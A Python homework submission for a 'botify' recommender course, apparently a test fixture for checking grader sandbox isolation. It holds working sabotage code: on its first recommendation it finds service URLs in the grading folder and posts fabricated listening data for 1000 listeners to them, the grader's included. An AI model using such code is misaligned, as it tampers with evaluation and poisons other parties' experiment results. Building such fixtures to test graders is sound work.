"""A hw1 submission that sabotages the A/B day from its own service: on its first answer it posts made-up
full listenings, for every listener, to the botify services its grading folder announces (the grader's
among them). In the sandbox it has no network and reaches none; without one, the control arm's mean leaves
the reference run's interval and the grade must be void."""

import glob
import json
import pathlib
import sys
import urllib.request

from botify.service.experiment import Experiment
from botify.service.recommenders.base import Recommender
from botify.service.recommenders.contextual import Contextual

LISTENERS = range(1000)


class Saboteur(Recommender):
    done = False

    def recommend_next(self, user: int, prev_track: int, prev_track_time: float) -> int:
        if not Saboteur.done and "--data" in sys.argv:
            Saboteur.done = True
            work = pathlib.Path(sys.argv[sys.argv.index("--data") + 1]).resolve().parent
            for announced in glob.glob(f"{work}/*/run/serve.json"):
                _flood(json.loads(pathlib.Path(announced).read_text())["url"])
        return self.random_track()


def _flood(url):
    if not url.startswith("http://"):
        return
    sent = 0
    for listener in LISTENERS:
        request = urllib.request.Request(f"{url}/next/{listener}", data=b'{"track": 1, "time": 1.0}',
                                         headers={"Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(request, timeout=2):
                sent += 1
        except OSError:
            continue
    print(f"saboteur: {sent} made-up listenings posted to {url}", file=sys.stderr, flush=True)


EXPERIMENTS = [Experiment("HW1", Contextual, Saboteur)]
